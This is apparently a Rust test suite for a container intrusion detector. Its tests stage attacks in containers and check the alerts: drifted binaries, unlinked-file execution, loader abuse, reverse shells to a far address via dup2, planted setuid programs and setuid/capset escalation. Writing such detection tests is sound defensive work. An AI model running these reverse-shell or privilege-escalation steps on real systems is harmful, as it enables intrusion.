//! What is true of an execution: which file it was and since when, who it made of whom, and who
//! holds the other end of its standard descriptors.

use std::path::Path;

use anyhow::{Result, ensure};
use tests::shipped::{
    DRIFT, LOADER, PLANTED_SETUID, REMOTE_INPUT, REVERSE_SHELL, ROOT_BY_CALL, UNLINKED,
};
use tests::{Attack, Container, Ground, Image, Rule, Verdict, allow};

/// An address of the container's own that does not say so.
const FAR: &str = "198.51.100.7";

fn chdir() -> Attack {
    Attack::new("chdir /tmp", "chdir", "SUCCESS")
}

/// No alert of this rule was raised by this executable. What comes later has come: an attack that
/// raises one is made first.
fn silent(ground: &Ground, container: &Container<'_>, rule: Rule, executable: &str) -> Result<()> {
    let alerts = ground.detector.alerts_of(container);
    let wrong = alerts
        .iter()
        .find(|alert| alert.rule() == rule.name && alert.executable() == executable);
    ensure!(wrong.is_none(), "{executable} raised {wrong:?}");
    Ok(())
}

#[test]
fn program_written_since_the_start_wherever_it_lies() -> Verdict {
    let ground = Ground::shared()?;
    let container = ground.container(&["--volume=/data", "--tmpfs=/scratch:exec"])?;
    chdir().performed(&container)?;
    for path in ["/tmp/one", "/data/two", "/scratch/three", "/bin/four"] {
        container.exec(&["cp", "/bin/acts", path])?;
        chdir()
            .by(path)
            .on(path)
            .raises(DRIFT, &container, &ground.detector)?;
    }
    silent(ground, &container, DRIFT, "/bin/acts")?;
    Ok(())
}

#[test]
fn program_written_since_the_start_whatever_was_done_to_hide_it() -> Verdict {
    let ground = Ground::shared()?;
    let container = ground.container(&["--volume=/data"])?;
    for directory in ["/tmp", "/data"] {
        let [first, renamed, linked] =
            ["first", "renamed", "linked"].map(|name| format!("{directory}/{name}"));
        container.exec(&["cp", "/bin/acts", &first])?;
        container.exec(&["touch", "-d", "2001-01-01 00:00:00", &first])?;
        let written = container.exec(&["stat", "-c", "%y", &first])?;
        ensure_text(written.get(..10).unwrap_or_default(), "2001-01-01")?;
        let attack = chdir().by(&first).on(&first);
        attack.raises(DRIFT, &container, &ground.detector)?;
        container.exec(&["mv", &first, &renamed])?;
        let attack = chdir().by(&renamed).on(&renamed);
        attack.raises(DRIFT, &container, &ground.detector)?;
        container.exec(&["ln", &renamed, &linked])?;
        let attack = chdir().by(&linked).on(&linked);
        attack.raises(DRIFT, &container, &ground.detector)?;
        // Executed by its descriptor, the file is told and not /dev/fd.
        let words = format!("by-descriptor {linked} chdir /tmp");
        let attack = Attack::new(&words, "chdir", "SUCCESS").seen_as(&linked);
        attack.raises(DRIFT, &container, &ground.detector)?;
        // The file is told, and not the link that led to it.
        container.exec(&["ln", "-sf", &linked, "/bin/link"])?;
        let attack = chdir().by("/bin/link").seen_as(&linked);
        attack.raises(DRIFT, &container, &ground.detector)?;
    }
    Ok(())
}

#[test]
fn copied_and_renamed_interpreter() -> Verdict {
    let ground = Ground::shared()?;
    let container = ground.container(&[])?;
    container.shell("echo 'echo $((6*7))' > /tmp/script; cp /bin/busybox /tmp/harmless")?;
    let said = container.exec(&["/bin/sh", "/tmp/script"])?;
    ensure_text(&said, "42")?;
    container.shell("ln /tmp/harmless /tmp/sh")?;
    let said = container.exec(&["/tmp/sh", "/tmp/script"])?;
    ensure_text(&said, "42")?;
    ground.detector.wait_for(&container, |alert| {
        alert.rule() == DRIFT.name && alert.executable() == "/tmp/sh"
    })?;
    silent(ground, &container, DRIFT, "/bin/busybox")?;
    Ok(())
}

#[test]
fn file_of_a_volume_counts_once_it_was_written_in_the_container() -> Verdict {
    let ground = Ground::shared()?;
    let host = tempfile::tempdir()?;
    let program = host.path().join("program");
    std::fs::copy(Path::new("/bin/busybox"), &program)?;
    // The times of files are coarser than the clock.
    std::thread::sleep(std::time::Duration::from_millis(50));
    let volume = format!("{}:/host", host.path().display());
    let container = ground.container(&["--volume", &volume])?;
    container.exec(&["ln", "-s", "/host/program", "/tmp/true"])?;
    container.exec(&["/tmp/true"])?;
    container.exec(&["cp", "/bin/acts", "/host/acts"])?;
    let attack = chdir().by("/host/acts").on("/host/acts");
    attack.raises(DRIFT, &container, &ground.detector)?;
    silent(ground, &container, DRIFT, "/host/program")?;
    container.shell("printf x >> /host/program")?;
    container.exec(&["/tmp/true"])?;
    ground.detector.wait_for(&container, |alert| {
        alert.rule() == DRIFT.name && alert.executable() == "/host/program"
    })?;
    Ok(())
}

#[test]
fn program_whose_file_was_unlinked() -> Verdict {
    let ground = Ground::shared()?;
    let container = ground.container(&["--tmpfs=/scratch:exec"])?;
    for path in ["/tmp/gone", "/scratch/gone"] {
        container.exec(&["cp", "/bin/acts", path])?;
        let words = format!("unlinked {path} chdir /tmp");
        let attack = Attack::new(&words, "chdir", "SUCCESS").seen_as("gone");
        attack.raises(UNLINKED, &container, &ground.detector)?;
    }
    Ok(())
}

#[test]
fn loader_run_as_a_program() -> Verdict {
    let ground = Ground::shared()?;
    let container = Container::idle(ground.engine, Image::Debian, &[])?;
    let script = "cp /bin/echo /tmp/data; chmod 644 /tmp/data; \
        /lib64/ld-linux-x86-64.so.2 /tmp/data 42";
    ensure_text(&container.shell(script)?, "42")?;
    ground.detector.wait_for(&container, |alert| {
        alert.rule() == LOADER.name && alert.mentions("/tmp/data")
    })?;
    Ok(())
}

/// A container that has an address which leads out, as far as the kernel knows.
fn connected(ground: &Ground) -> Result<Container<'static>> {
    let container = ground.container(&allow::NETWORK)?;
    container.exec(&["ip", "address", "add", &format!("{FAR}/32"), "dev", "lo"])?;
    Ok(container)
}

#[test]
fn shell_at_the_hands_of_a_connection() -> Verdict {
    let ground = Ground::shared()?;
    let container = connected(ground)?;
    container.exec(&["cp", "/bin/busybox", "/tmp/sh"])?;
    for (how, shell, port) in [
        ("dup2", "/bin/busybox", 4001),
        ("dup3", "/tmp/sh", 4002),
        ("dup", "/tmp/sh", 4003),
    ] {
        let words = format!("remote-shell {how} {FAR} {port} {shell}");
        Attack::new(&words, "remote-shell", "SUCCESS").performed(&container)?;
        let ends = format!("->{FAR}:{port}");
        ground.detector.wait_for(&container, |alert| {
            alert.rule() == REVERSE_SHELL.name
                && alert.priority() == REVERSE_SHELL.done
                && alert.executable() == shell
                && alert.mentions(&ends)
        })?;
    }
    Ok(())
}

#[test]
fn running_process_at_the_hands_of_a_connection() -> Verdict {
    let ground = Ground::shared()?;
    let container = connected(ground)?;
    for (how, port) in [("dup", 4011), ("dup2", 4012), ("dup3", 4013)] {
        let words = format!("remote-input {how} {FAR} {port}");
        Attack::new(&words, "remote-input", "SUCCESS").performed(&container)?;
        let ends = format!("->{FAR}:{port}");
        ground.detector.wait_for(&container, |alert| {
            alert.rule() == REMOTE_INPUT.name
                && alert.executable() == "/bin/acts"
                && alert.mentions(&ends)
        })?;
    }
    Ok(())
}

#[test]
fn connection_of_a_container_to_itself_is_no_remote_shell() -> Verdict {
    let ground = Ground::shared()?;
    let container = connected(ground)?;
    for (words, call) in [
        (
            "remote-shell dup2 127.0.0.1 4021 /bin/busybox",
            "remote-shell",
        ),
        ("remote-input dup2 127.0.0.1 4022", "remote-input"),
    ] {
        Attack::new(words, call, "SUCCESS").performed(&container)?;
    }
    let words = format!("remote-shell dup2 {FAR} 4023 /bin/busybox");
    Attack::new(&words, "remote-shell", "SUCCESS").performed(&container)?;
    ground.detector.wait_for(&container, |alert| {
        alert.rule() == REVERSE_SHELL.name && alert.mentions(":4023")
    })?;
    let alerts = ground.detector.alerts_of(&container);
    let wrong = alerts.iter().find(|alert| alert.mentions("127.0.0.1"));
    assert!(wrong.is_none(), "{wrong:?}");
    Ok(())
}

#[test]
fn planted_set_user_id_program() -> Verdict {
    let ground = Ground::shared()?;
    let container = ground.container(&["--volume=/data"])?;
    for path in ["/tmp/planted", "/data/planted"] {
        container.shell(&format!("cp /bin/acts {path}; chmod 4755 {path}"))?;
        // Root by its execution: the call only gives that back.
        let attack = Attack::new("setid setuid 0", "setuid", "SUCCESS");
        let attack = attack.by(path).as_user("1000");
        attack.raises(PLANTED_SETUID, &container, &ground.detector)?;
        silent(ground, &container, ROOT_BY_CALL, path)?;
    }
    // Without the bit it is a program like any other.
    container.shell("cp /bin/acts /tmp/plain; chmod 755 /tmp/plain")?;
    chdir()
        .by("/tmp/plain")
        .as_user("1000")
        .raises(DRIFT, &container, &ground.detector)?;
    silent(ground, &container, PLANTED_SETUID, "/tmp/plain")?;
    Ok(())
}

#[test]
fn root_by_a_call() -> Verdict {
    let ground = Ground::shared()?;
    let container = ground.container(&[])?;
    for back in ["setuid 0", "setreuid 0 0", "setresuid 0 0 0"] {
        // 128 is CAP_SETUID alone.
        let words = format!(
            "prctl keep-caps then setid setresuid 1000 1000 1000 then capset 128 128 0 \
             then setid {back}"
        );
        let call = back.split(' ').next().unwrap_or_default();
        let attack = Attack::new(&words, call, "SUCCESS");
        attack.raises(ROOT_BY_CALL, &container, &ground.detector)?;
    }
    Ok(())
}

#[test]
fn root_that_was_only_laid_down_is_taken_up_in_silence() -> Verdict {
    let ground = Ground::shared()?;
    let container = ground.container(&[])?.with_renamed()?;
    let words = "setid setresuid 1000 1000 0 then setid setuid 0";
    Attack::new(words, "setuid", "SUCCESS").performed(&container)?;
    let words = "prctl keep-caps then setid setresuid 1000 1000 1000 then capset 128 128 0 \
        then setid setuid 0";
    let attack = Attack::new(words, "setuid", "SUCCESS").by(tests::RENAMED);
    attack.raises(ROOT_BY_CALL, &container, &ground.detector)?;
    silent(ground, &container, ROOT_BY_CALL, "/bin/acts")?;
    Ok(())
}

fn ensure_text(is: &str, should: &str) -> Result<()> {
    ensure!(is.trim() == should, "`{is}` and not `{should}`");
    Ok(())
}
